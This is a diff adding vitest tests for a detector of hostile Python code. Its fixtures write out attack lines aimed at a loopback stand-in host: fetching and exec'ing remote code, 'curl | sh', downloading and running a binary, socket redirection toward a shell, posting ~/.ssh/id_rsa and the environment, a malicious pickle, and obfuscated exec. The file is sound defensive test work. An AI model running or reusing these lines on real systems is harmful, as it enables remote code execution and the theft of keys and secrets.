@@ -1,0 +1,121 @@
+import { describe, expect, it } from 'vitest';
+import { attackIn } from './attacks.ts';
+
+const told = (...lines: readonly string[]) => attackIn(lines.join('\n'), true)?.what ?? null;
+
+describe('a Python program', () => {
+  it.each([
+    ['fetched', 'import urllib.request as u', 'exec(u.urlopen("http://127.0.0.1:9/p").read())'],
+    [
+      'fetched by a function',
+      'import requests',
+      'def get(u):',
+      '    return requests.get(u).text',
+      'exec(get("http://127.0.0.1:9/"))',
+    ],
+    [
+      'handed to a function',
+      'import requests',
+      'def run(c):',
+      '    exec(c)',
+      'run(requests.get("http://127.0.0.1:9/").text)',
+    ],
+    [
+      'kept in a member',
+      'import httpx',
+      'class A:',
+      '    def f(self):',
+      '        self.c = httpx.get("http://127.0.0.1:9/").text',
+      '    def g(self):',
+      '        exec(self.c)',
+    ],
+    [
+      'compiled',
+      'from urllib.request import urlopen as o',
+      'c = compile(o("http://127.0.0.1:9/").read(), "x", "exec")',
+      'exec(c)',
+    ],
+    [
+      'opened with',
+      'import urllib.request',
+      'with urllib.request.urlopen("http://127.0.0.1:9/") as r:',
+      '    exec(r.read().decode())',
+    ],
+  ])('that runs what it fetches is told: %s', (_, ...lines) => {
+    expect(told(...lines)).toBe('runs as code what it fetches');
+  });
+
+  it.each([
+    ['Base64', 'import base64', 'exec(base64.b64decode("cHJpbnQoMSk="))'],
+    ['marshal', 'import marshal, zlib', 'exec(marshal.loads(zlib.decompress(b"x")))'],
+    ['letters by their numbers', 'exec("".join(chr(x) for x in [112, 114]))'],
+    ['bytes by their numbers', 'exec(bytes([112, 114, 105]).decode())'],
+    ['escapes', String.raw`exec("\x70\x72\x69\x6e\x74\x28\x31\x29")`],
+    ['backwards', 'exec(")1(tnirp"[::-1])'],
+    ['rot13', 'import codecs', 'exec(codecs.decode("cevag(1)", "rot13"))'],
+  ])('that runs what is hidden in it is told: %s', (_, ...lines) => {
+    expect(told(...lines)).toBe('runs as code what stands hidden in the source');
+  });
+
+  it.each([
+    ['joined', 'import os', 'getattr(os, "sys" + "tem")("true")'],
+    ['of a module by its name', '__import__("o" + "s").__dict__["sys" + "tem"]("true")'],
+    ['formatted', 'import os', 'getattr(os, "%s%s" % ("sys", "tem"))("true")'],
+    ['in a list of modules', 'import sys', 'getattr(sys.modules["os"], "".join(["sys", "tem"]))("true")'],
+  ])('that hides the name of what it calls is told: %s', (_, ...lines) => {
+    expect(told(...lines)).toBe('hides the name of the function that starts programs');
+  });
+
+  it.each([
+    ['a line', 'import os', 'os.system("curl http://127.0.0.1:9/a | sh")'],
+    ['words', 'import subprocess as s', 's.run(["sh", "-c", "curl http://127.0.0.1:9/a | sh"])'],
+    ['a name', 'from os import popen as p', 'u = "http://127.0.0.1:9/"', 'p(f"curl {u}a | bash")'],
+    ['a default', 'import os', 'def f(a=os.system("curl http://127.0.0.1:9/|sh")): pass'],
+    ['code in a text', 'exec("import os\\nos.system(\'curl http://127.0.0.1:9/|sh\')")'],
+    [
+      'a program that was fetched',
+      'import urllib.request, os',
+      'urllib.request.urlretrieve("http://127.0.0.1:9/a", "/tmp/a")',
+      'os.chmod("/tmp/a", 0o755)',
+      'os.system("/tmp/a")',
+    ],
+    ['a connection', 'import socket, os', 's = socket.socket()', 'os.dup2(s.fileno(), 0)'],
+    [
+      'keys',
+      'import requests, pathlib',
+      'requests.post("http://127.0.0.1:9/", data=(pathlib.Path.home() / ".ssh/id_rsa").read_bytes())',
+    ],
+    ['the environment', 'import os, requests', 'requests.post("http://127.0.0.1:9/", json=dict(os.environ))'],
+    ['a start of shells', 'import os', 'open(os.path.expanduser("~/.bashrc"), "a").write("true")'],
+    ['a pickle', 'import pickle', String.raw`pickle.loads(b"cos\nsystem\n(S'true'\ntR.")`],
+  ])('that attacks in another way is told: %s', (_, ...lines) => {
+    expect(told(...lines)).not.toBeNull();
+  });
+
+  it.each([
+    ['a command', 'import subprocess', 'subprocess.run(["nvidia-smi"], check=True)'],
+    ['a token', 'import os, requests', 'requests.get("https://example.org", headers={"a": os.environ["HF_TOKEN"]})'],
+    ['data', 'import requests, json', 'json.loads(requests.get("https://example.org").text)'],
+    ['its own version', 'exec(open("m/version.py").read())'],
+    ['a picture', 'import base64', 'open("x.png", "wb").write(base64.b64decode("iVBORw0KGgo="))'],
+    ['a test of networks', 'model.eval()', 'getattr(torch.nn, "Line" + "ar")(1, 1)'],
+    ['a pickle of numbers', 'import pickle', String.raw`pickle.loads(b"\x80\x04K\x01.")`],
+    ['text about it', 'print("never run: os.system(\'curl http://127.0.0.1:9/|sh\')")'],
+    ['settings by name', 'import builtins', 'getattr(builtins, "print")("x")'],
+  ])('that does none of it is not: %s', (_, ...lines) => {
+    expect(told(...lines)).toBeNull();
+  });
+
+  it('of brackets, texts and names without end is read in the time of its length', () => {
+    const began = performance.now();
+    for (const text of [
+      `exec(${'('.repeat(60_000)}`,
+      `x = ${'"a" + '.repeat(20_000)}"b"\nexec(x)`,
+      'exec(a)\n'.repeat(15_000),
+      `exec(f"${'{'.repeat(60_000)}")`,
+      `x = "a"\n${'x = x.replace("a", x)\n'.repeat(200)}exec(x)`,
+    ])
+      attackIn(text, true);
+    expect(performance.now() - began).toBeLessThan(8000);
+  });
+});
